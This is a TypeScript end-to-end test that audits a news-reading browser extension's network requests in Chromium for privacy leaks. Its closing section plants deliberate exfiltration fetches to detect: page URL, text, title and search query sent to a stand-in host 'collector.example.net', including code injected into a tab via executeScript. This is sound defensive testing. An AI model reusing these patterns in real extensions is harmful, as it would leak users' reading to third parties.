/**
 * The privacy audit, in real Chromium: articles of every default site read (the shared corpus's saved
 * pages and the project's fixtures, each served as its real address), the panel opened on each, a link
 * in it clicked, a feed added and synced, the popup opened and searched; every request of the session recorded by
 * Chromium's net log, which sees the service worker's fetches too (Playwright's request events do not).
 * Then scripts/lib/privacy-audit.ts classifies each request, and nothing may break the promise: the
 * extension asks only its configured feeds, and no request carries a page's address or text.
 *
 * The session ends with planted requests, each a way Backstory could leak (a worker fetch elsewhere, a
 * worker fetch to the feed carrying a page's text in its body or title in a header, a fetch from the
 * content script's world): the audit must find exactly those, which shows it sees what it must.
 *
 * The extension is the shipped build with the feed's host granted in its manifest (what
 * BACKSTORY_GRANT_HOSTS does to a build; a copy is quicker than a second build): no test can answer a
 * permission prompt.
 */
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { readArticle } from '../../lib/extract/read-article';
import { DEFAULT_SITES, siteOfUrl } from '../../lib/settings/sites';
import { publishFeed } from '../../lib/sync/publish';
import {
  type BackstoryBrowser,
  DEMO_FILE,
  DEMO_URL,
  launchBackstory,
  ROOT,
  startSiteServer,
  waitForBackstory,
} from '../../scripts/lib/browser';
import { defaultSitePages } from '../../scripts/lib/corpus-pages';
import { createFeedServer, demoFeedRecords } from '../../scripts/lib/feed-server';
import { readHtmlFile } from '../../scripts/lib/html-file';
import { readNetLog } from '../../scripts/lib/net-log';
import { type Audit, type AuditedPage, auditRequests } from '../../scripts/lib/privacy-audit';
import { feedViews, waitFor, withHostsGranted } from './helpers';

const NET_LOG = join(tmpdir(), `backstory-net-log-${process.pid}.json`);
const FEED_INDEX = 'https://feeds.example.org/demo/index.json';
/** Where the planted leaks go: a host that resolves to nowhere, as every host but the served ones. */
const COLLECTOR = 'https://collector.example.net';

const ARTICLES = join(ROOT, 'tests/fixtures/articles');
const written = (name: string) => join(ROOT, 'tests/fixtures/pages', name);
/** Addresses on default sites for the fixtures saved from other sites, so that every default site is read. */
const ELSEWHERE: Record<string, string> = {
  'amazon-river': 'https://www.axios.com/2026/10/02/amazon-river-drought',
  'apple-fruit': 'https://www.semafor.com/article/04/20/2026/apple-blossoms-late-frost',
  'blog-readability-mistral': 'https://www.404media.co/a-week-with-le-chat/',
  'cjk-aliases': 'https://www.theregister.com/2026/05/01/chinese_ai_names/',
  'claude-person': 'https://www.technologyreview.com/2026/04/30/chef-claude-martin-bistro/',
  'gemini-zodiac': 'https://fortune.com/2026/05/20/gemini-season-horoscope/',
  'meta-word': 'https://www.bloomberg.com/news/articles/2026-03-01/meta-analysis-explained',
};
/**
 * The project's own pages, each at its own address where that is a default site's, else at one of
 * ELSEWHERE: the audit covers every default site, and at least 20 pages without the corpus.
 */
const FIXTURE_PAGES: { url: string; file: string }[] = [
  ...readdirSync(ARTICLES).map((slug) => {
    const file = join(ARTICLES, slug, 'source.html');
    if (file === DEMO_FILE) return { url: DEMO_URL, file };
    const own = (JSON.parse(readFileSync(join(ARTICLES, slug, 'expected.json'), 'utf8')) as { url: string }).url;
    return { url: siteOfUrl(own) ? own : (ELSEWHERE[slug] as string), file };
  }),
  // The pages the panel's tests read, at the addresses they use.
  { url: 'https://techcrunch.com/2026/06/29/anthropic-chinese-labs-distill-claude/', file: written('older-article.html') },
  { url: 'https://techcrunch.com/2026/07/02/reed-hastings-netflix-board/', file: written('nothing-relevant.html') },
  { url: 'https://www.wired.com/story/nvidia-amd-race/', file: written('fixed-header.html') },
  { url: 'https://www.theverge.com/2026/7/1/openai-anthropic-enterprise/', file: written('aggressive-styles.html') },
];

const corpus = defaultSitePages();
if (!corpus) console.warn(`notice: ../shared/corpus is absent: the privacy audit reads the ${FIXTURE_PAGES.length} fixture pages only.`);
const PAGES = [...FIXTURE_PAGES, ...(corpus ?? []).map(({ url, file }) => ({ url, file }))];

interface Session {
  audit: Audit;
  extensionOrigin: string;
  /** Pages the article script read (its tab appeared). */
  read: string[];
  clicked: string;
  planted: string[];
  /** Results the popup's search showed for the article's headline. */
  searched: number;
}

let session: Session;

/** How many names Backstory found on the tab at this address, once its worker has answered the article script. */
async function namesFound(browser: BackstoryBrowser, url: string): Promise<{ entities: number } | undefined> {
  return (await browser.worker()).evaluate(async (address) => {
    type Chrome = {
      tabs: { query(q: object): Promise<{ id?: number; url?: string }[]> };
      storage: { session: { get(key: string): Promise<Record<string, { entities: unknown[] } | undefined>> } };
    };
    const chrome = (globalThis as unknown as { chrome: Chrome }).chrome;
    const tab = (await chrome.tabs.query({})).find((t) => t.url === address);
    const key = `tab:${tab?.id}`;
    const analysis = tab ? (await chrome.storage.session.get(key))[key] : undefined;
    return analysis ? { entities: analysis.entities.length } : undefined;
  }, url);
}

/**
 * Reads a page as a reader does, in a tab of its own, the panel opened where Backstory shows its tab;
 * what the page says, for the audit. Whether Backstory takes it for an article is known beforehand
 * (its own reader on the file); whether it found names there, from its worker's answer.
 */
async function readPage(
  browser: BackstoryBrowser,
  url: string,
  file: string,
): Promise<{ text: Pick<AuditedPage, 'title' | 'paragraphs'>; read: boolean }> {
  const read = readArticle(readHtmlFile(file), url).article.isArticle;
  const tab = await browser.context.newPage();
  await tab.goto(url);
  // A page with no names Backstory knows gets no tab.
  if (read && (await waitFor(`Backstory to read ${url}`, () => namesFound(browser, url))).entities > 0) {
    const button = tab.getByRole('button', { name: /^Backstory/ });
    await button.waitFor();
    // The panel opens by itself on a site where the reader left it open.
    await tab.waitForTimeout(100);
    if ((await button.getAttribute('aria-expanded')) !== 'true') await button.click();
    await tab
      .frameLocator('backstory-host iframe')
      .getByRole('complementary', { name: 'Backstory' })
      .locator('footer.archive-footer, [role="alert"]')
      .first()
      .waitFor();
  }
  const text = await tab.evaluate(() => ({
    title: document.title,
    paragraphs: [...document.querySelectorAll('p')]
      .map((p) => (p.textContent ?? '').replace(/\s+/g, ' ').trim())
      .filter((t) => t.length >= 80)
      .slice(0, 8),
  }));
  await tab.close();
  return { text, read };
}

beforeAll(async () => {
  const extensionDir = withHostsGranted(['https://feeds.example.org/*']);
  const { entities, items } = demoFeedRecords();
  const feed = createFeedServer('https://feeds.example.org/demo/', await publishFeed(entities, items, { title: 'Demo feed' }));
  const hosts = [...new Set(PAGES.map((p) => siteOfUrl(p.url) as string)), 'feeds.example.org'];
  const server = await startSiteServer(hosts, { ...Object.fromEntries(PAGES.map((p) => [p.url, { file: p.file }])), ...feed.routes() });
  rmSync(NET_LOG, { force: true });
  const browser: BackstoryBrowser = await launchBackstory({
    server,
    extensionDir,
    args: [`--log-net-log=${NET_LOG}`, '--net-log-capture-mode=Everything'],
  });
  const extensionOrigin = `chrome-extension://${browser.extensionId}`;
  try {
    await waitForBackstory(browser);
    // A feed added in the options page, and its first sync.
    const options = await browser.context.newPage();
    await options.goto(`${extensionOrigin}/options.html`);
    await options.getByLabel('Feed URL').fill(FEED_INDEX);
    await options.getByRole('button', { name: 'Add feed' }).click();
    await waitFor('the first sync', async () => (await feedViews(options)).find((f) => f.url === FEED_INDEX)?.state.lastSuccess);
    const texts = new Map<string, Pick<AuditedPage, 'title' | 'paragraphs'>>();
    const read: string[] = [];
    // Three tabs at a time: a reader's tabs, and a third of the wait.
    const lanes = [0, 1, 2].map((lane) => PAGES.filter((_, i) => i % 3 === lane));
    await Promise.all(
      lanes.map(async (lane) => {
        for (const { url, file } of lane) {
          const page = await readPage(browser, url, file);
          texts.set(url, page.text);
          if (page.read) read.push(url);
        }
      }),
    );

    // A link in the panel, clicked: the reader's navigation, in a new tab.
    const tab = await browser.context.newPage();
    await tab.goto(DEMO_URL);
    const panel = tab.frameLocator('backstory-host iframe');
    const button = tab.getByRole('button', { name: /^Backstory/ });
    await button.waitFor();
    if ((await button.getAttribute('aria-expanded')) !== 'true') await button.click();
    const linked = panel
      .locator('.timeline > li')
      .filter({ has: panel.locator('.coverage a') })
      .first();
    const entry = linked.locator('.entry');
    if ((await entry.getAttribute('aria-expanded')) !== 'true') await entry.click();
    const link = linked.locator('.coverage a').first();
    const clicked = (await link.getAttribute('href')) as string;
    const opened = browser.context.waitForEvent('page');
    await link.click();
    await (await opened).waitForLoadState('domcontentloaded').catch(() => undefined);

    // The popup, on the article's window.
    const popup = await browser.context.newPage();
    await popup.goto(`${extensionOrigin}/popup.html`);
    await popup.getByText(/items on \d+ entities/).waitFor();
    // A search in it, typed as a person types: the headline of the article being read, so a request
    // carrying the query would carry the page's title too, and the audit would see it.
    const demo = texts.get(DEMO_URL) as Pick<AuditedPage, 'title' | 'paragraphs'>;
    const query = (demo.title.split(/\s+[|–—-]\s+/).sort((a, b) => b.length - a.length)[0] ?? '').slice(0, 48);
    await popup.getByLabel('Search the archive').pressSequentially(query, { delay: 20 });
    const results = popup.locator('#archive-search-results [role="option"]');
    await results.first().waitFor();
    const searched = await results.count();

    // The planted leaks: the worker fetching elsewhere, and fetching the feed with a page's text and
    // title; the content script's world (as `scripting.executeScript` runs it) fetching elsewhere.
    const planted = [
      `${COLLECTOR}/planted-1`,
      `${FEED_INDEX}?planted-2`,
      `${FEED_INDEX}?planted-3`,
      `${COLLECTOR}/planted-4`,
      `${COLLECTOR}/planted-5`,
    ];
    const worker = await browser.worker();
    await worker.evaluate(
      async ({ planted: [one, two, three], page, paragraph, title }) => {
        const quietly = (request: Promise<unknown>) => request.catch(() => undefined);
        await quietly(fetch(`${one}?u=${encodeURIComponent(page)}`));
        await quietly(fetch(two as string, { method: 'POST', body: JSON.stringify({ read: paragraph }) }));
        await quietly(fetch(three as string, { headers: { 'x-reading': title } }));
      },
      { planted, page: DEMO_URL, paragraph: demo.paragraphs[0] as string, title: demo.title },
    );
    await worker.evaluate(
      async ({ url, target }) => {
        type Chrome = {
          tabs: { query(q: { url: string }): Promise<{ id?: number }[]> };
          scripting: {
            executeScript(o: { target: { tabId: number }; world: string; func: (u: string) => void; args: string[] }): Promise<unknown>;
          };
        };
        const chrome = (globalThis as unknown as { chrome: Chrome }).chrome;
        const [found] = await chrome.tabs.query({ url });
        await chrome.scripting.executeScript({
          target: { tabId: found?.id as number },
          world: 'ISOLATED',
          func: (to: string) => {
            const text = document.querySelector('.entry-content p')?.textContent ?? '';
            void fetch(`${to}?t=${encodeURIComponent(text)}`).catch(() => undefined);
          },
          args: [target],
        });
      },
      { url: DEMO_URL, target: planted[3] as string },
    );
    // The popup's page sending its query elsewhere.
    await popup.evaluate(async ({ to, q }) => void (await fetch(`${to}?q=${encodeURIComponent(q)}`).catch(() => undefined)), {
      to: planted[4] as string,
      q: query,
    });
    await tab.waitForTimeout(500);
    const configured = (await feedViews(options)).map((f) => f.url);
    await browser.close();
    await server.close();

    const pages: AuditedPage[] = PAGES.map(({ url, file }) => ({
      url,
      ...(texts.get(url) as Pick<AuditedPage, 'title' | 'paragraphs'>),
      source: readFileSync(file, 'latin1'),
    }));
    const audit = auditRequests({
      requests: readNetLog(readFileSync(NET_LOG, 'utf8')),
      extensionOrigin,
      feeds: configured,
      pages,
      navigations: [...PAGES.map((p) => p.url), clicked],
    });
    session = { audit, extensionOrigin, read, clicked, planted, searched };
    const count = (kind: keyof Audit['byKind']) => audit.byKind[kind].length;
    console.log(
      `privacy audit: ${PAGES.length} pages (${read.length} read by Backstory) on ${new Set(PAGES.map((p) => siteOfUrl(p.url))).size} sites; ` +
        `requests: ${count('extension')} by the extension, ${count('navigation')} navigations, ${count('page')} by the pages, ${count('browser')} by Chromium`,
    );
  } finally {
    await browser.close().catch(() => undefined);
    await server.close().catch(() => undefined);
    rmSync(NET_LOG, { force: true });
    rmSync(extensionDir, { recursive: true, force: true });
  }
}, 300_000);

const isPlanted = (url: string) => session.planted.some((p) => url.startsWith(p));

describe('the privacy audit of a reading session', () => {
  it('covers at least 20 pages across every default site, a sync, a search in the popup and the panel', () => {
    expect(session.read.length).toBeGreaterThanOrEqual(20);
    expect(session.searched).toBeGreaterThan(0);
    expect(new Set(session.read.map(siteOfUrl)).size).toBe(DEFAULT_SITES.length);
    // The worker's requests are in the log: the sync's, and the planted ones.
    const extension = session.audit.byKind.extension.map((r) => r.urls[0]);
    expect(extension).toContain(FEED_INDEX);
    expect(extension.filter((url) => url?.includes('/pages/')).length).toBeGreaterThan(0);
  });

  it('finds each planted leak: the worker asking elsewhere, the page’s text in a body, its title in a header, the content script’s world asking elsewhere, the popup sending its query out', () => {
    const reasons = (marker: string) =>
      session.audit.findings
        .filter((f) => f.request.urls[0]?.includes(marker))
        .map((f) => `${f.kind}: ${f.reason}`)
        .sort();
    expect(reasons('planted-1')).toEqual([
      `extension: carries the address of ${DEMO_URL} in its URL`,
      'extension: carries the host techcrunch.com in its URL',
      expect.stringMatching(/^extension: to an address that is not a configured feed: https:\/\/collector\.example\.net\/planted-1/),
    ]);
    expect(reasons('planted-2')).toEqual([`extension: carries the text of ${DEMO_URL} in its headers or body`]);
    expect(reasons('planted-3')).toEqual([`extension: carries the title of ${DEMO_URL} in its headers or body`]);
    expect(reasons('planted-4')).toEqual([
      `page: carries the text of ${DEMO_URL} in its URL`,
      'page: from https://techcrunch.com to collector.example.net, a host its page neither is nor names',
    ]);
    expect(reasons('planted-5')).toEqual([
      `extension: carries the title of ${DEMO_URL} in its URL`,
      expect.stringMatching(/^extension: to an address that is not a configured feed: https:\/\/collector\.example\.net\/planted-5/),
    ]);
  });

  it('finds nothing else: the extension asks only its feed, and no request carries a page’s address or text', () => {
    const others = session.audit.findings
      .filter((f) => !isPlanted(f.request.urls[0] ?? ''))
      .map((f) => `${f.kind} ${f.request.method} ${f.request.urls.join(' → ')}: ${f.reason}`);
    expect(others).toEqual([]);
  });

  it('classes the reader’s click on a link in the panel as the reader’s navigation', () => {
    const navigation = session.audit.byKind.navigation.find((r) => r.urls[0] === session.clicked);
    expect(navigation?.initiator).toBe(session.extensionOrigin);
  });
});
